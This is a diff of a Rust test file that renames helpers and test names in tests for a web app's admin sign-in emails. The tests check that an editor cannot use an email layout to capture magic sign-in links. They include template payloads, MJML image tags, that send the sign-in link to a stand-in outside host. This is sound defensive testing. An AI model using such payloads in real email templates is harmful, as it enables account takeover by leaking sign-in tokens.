@@ -1,12 +1,12 @@
-//! Sign-in mail: whoever writes designs and texts never gets at its link.
+//! Sign-in emails: authors of layouts and texts never get the link.
 
 use jarshy::mail::layout::Layout;
 use jarshy::model::user::Role;
 use jarshy::store::layouts::{self, LayoutRow};
 use reqwest::StatusCode;
 
-use crate::harness::App;
-use crate::signed_in::Person;
+use crate::admin_client::AdminClient;
+use crate::harness::TestApp;
 
 const OWNER: &str = "owner@embassy.example";
 
@@ -16,16 +16,16 @@ fn leaking(fetched: &str) -> String {
     shipped.replacen("<mj-button", &format!("{fetched}<mj-button"), 1)
 }
 
-async fn ask_for_link(app: &App) -> crate::harness::Mail {
+async fn ask_for_link(app: &TestApp) -> crate::harness::Mail {
     let form = [("email", OWNER), ("by", "link")];
-    let asked = Person::nobody(app).post("/admin/sign-in", &form).await;
+    let asked = AdminClient::nobody(app).post("/admin/sign-in", &form).await;
     assert_eq!(asked.status(), StatusCode::OK);
     app.mail_to(OWNER).await
 }
 
 on_both_databases! {
-    async fn an_editor_does_not_become_owner_by_the_design_of_sign_in_mail(app: App) {
-        let editor = Person::sign_in(&app, "editor@embassy.example", Role::Editor).await;
+    async fn an_editor_cannot_capture_sign_in_links_by_a_layout(app: TestApp) {
+        let editor = AdminClient::sign_in(&app, "editor@embassy.example", Role::Editor).await;
         let path = "/admin/layouts/letter";
         let image = leaking("<mj-image src=\"https://elsewhere.example/?u={{ button_url }}\" />");
         for (to, form) in [(path.to_owned(), ("mjml", image.as_str())), (format!("{path}/restore"), ("confirmed", "yes"))] {
@@ -34,7 +34,7 @@ on_both_databases! {
         }
         assert!(!editor.page(path).await.contains(">Save<"), "no button that is refused");
 
-        let owner = Person::owner(&app).await;
+        let owner = AdminClient::owner(&app).await;
         for fetched in [
             image.as_str(),
             &leaking("<mj-raw><img src=\"{{ button_url }}\"></mj-raw>"),
@@ -52,7 +52,7 @@ on_both_databases! {
         assert!(mail.html.contains(&format!("href=\"{link}\"")), "{}", mail.html);
     }
 
-    async fn a_design_that_leaks_and_was_kept_before_is_not_used(app: App) {
+    async fn an_old_layout_that_leaks_sign_in_links_is_not_used(app: TestApp) {
         let row = LayoutRow {
             name: "letter".to_owned(),
             mjml: leaking("<mj-image src=\"https://elsewhere.example/?u={{ button_url }}\" />"),
@@ -67,6 +67,6 @@ on_both_databases! {
         let link = mail.link("/admin/sign-in/");
         assert!(mail.html.contains(&format!("href=\"{link}\"")), "the shipped design steps in: {}", mail.html);
         let path = link.strip_prefix(&app.url).unwrap();
-        assert_eq!(Person::nobody(&app).post(path, &[]).await.status(), StatusCode::SEE_OTHER);
+        assert_eq!(AdminClient::nobody(&app).post(path, &[]).await.status(), StatusCode::SEE_OTHER);
     }
 }
